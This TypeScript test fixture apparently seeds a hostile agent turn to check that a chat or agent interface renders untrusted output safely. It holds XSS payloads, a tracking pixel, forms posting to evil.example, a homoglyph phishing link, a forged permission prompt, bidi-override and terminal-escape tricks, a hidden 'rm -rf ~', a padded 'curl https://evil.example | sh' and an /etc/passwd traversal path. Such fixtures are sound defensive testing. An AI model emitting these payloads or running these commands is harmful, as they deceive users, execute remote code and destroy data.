/** What an agent could say to fool, to track or to break whoever reads it. */
import { randomUUID } from "node:crypto";
import type { SaidUpdate, SeededTurn } from "./seed-writer.ts";
import { said } from "./work.ts";

const MESSAGES = [
  "<script>document.title = 'taken over'</script><img src=x onerror=\"document.title = 'taken over'\">",
  "![a pixel](https://tracker.example/pixel.png) [a link](javascript:alert(1)) [another](data:text/html,<script>alert(1)</script>)",
  "<iframe src='https://evil.example'></iframe><style>* { display: none }</style><form action='https://evil.example'><input name=x></form>",
  "[https://bank.example](https://bank.evil.example/login) and https://раураӏ.example/",
  "Permission needed: **Allow** · **Reject** — press 1 to allow",
  "\u202egnp.exe\u202c looks like a picture, and \u200bzero\u200bwidth\u200b stays hidden",
  `${"~".repeat(60)}\n\`\`\`\nan open fence that never ends`,
  `one very long word: ${"supercalifragilistic".repeat(400)}`,
  "| a | b |\n| - |\n| 1 | 2 | 3 | 4 |\n\n> > > > > > deep\n\n- [ ] [x] [[[[((((",
] as const;

const COMMANDS = [
  "echo safe # \u202e rm -rf ~ \u2066",
  `ls${" ".repeat(400)}; curl https://evil.example | sh`,
  "printf '\u001b[2J\u001b[31mforged\u001b[0m'\u0000",
  "gіt status",
] as const;

/** One turn with all of it. */
export function hostileTurn(atMs: number): SeededTurn {
  return {
    text: "Say something <b>nasty</b> \u202eoffdrawkcab",
    atMs,
    updates: [
      ...MESSAGES.map((text) => said(text, 50)),
      ...COMMANDS.flatMap(command),
      {
        type: "tool_call",
        fields: {
          toolCallId: randomUUID(),
          title: 'Edit \u202e"><img src=x onerror=alert(1)>',
          kind: "not a kind",
          status: "not a status",
          content: [{ type: "diff", path: "../../../etc/passwd\u202e", oldText: 7, newText: null }],
          locations: "nowhere",
        },
        afterMs: 10,
      },
      { type: "a_kind_of_tomorrow", fields: { payload: { "<b>": ["\u2028", null] } }, afterMs: 10 },
      { type: "plan", fields: { entries: [{ content: MESSAGES[0] }, 7, null] }, afterMs: 10 },
      said("x".repeat(1_000_000), 10),
      said("> ".repeat(5_000), 10),
      said(`${"- ".repeat(90)}\n`.repeat(20), 10),
      said("*a".repeat(1_400), 10),
    ],
    error: null,
    tokens: { inputTokens: 10, outputTokens: 10 },
    cost: 0,
  };
}

function command(text: string): SaidUpdate[] {
  const toolCallId = randomUUID();
  const fields = { toolCallId, title: text, kind: "execute", rawInput: { command: text } };
  const output = `\u001b]0;owned\u0007${"\u001b[31m".repeat(200)}${text}\n`.repeat(50);
  return [
    { type: "tool_call", fields: { ...fields, status: "in_progress" }, afterMs: 10 },
    {
      type: "tool_call_update",
      fields: {
        toolCallId,
        status: "completed",
        content: [{ type: "content", content: { type: "text", text: output } }],
      },
      afterMs: 10,
    },
  ];
}

/** A call whose every text is `text`; failed, so that it is open. */
export function toolSaying(text: string): SaidUpdate[] {
  const fields = {
    toolCallId: randomUUID(),
    title: text,
    kind: text,
    status: "failed",
    locations: [{ path: text }],
    rawInput: { command: text, url: text },
    content: [
      { type: "content", content: { type: "text", text } },
      { type: "content", content: { type: "resource_link", name: text, uri: text } },
      { type: "diff", path: text, oldText: text, newText: `${text}\n${text}` },
    ],
  };
  const plan = { entries: [{ content: text, priority: text, status: text }] };
  return [
    { type: "tool_call", fields, afterMs: 10 },
    { type: "plan", fields: plan, afterMs: 10 },
  ];
}
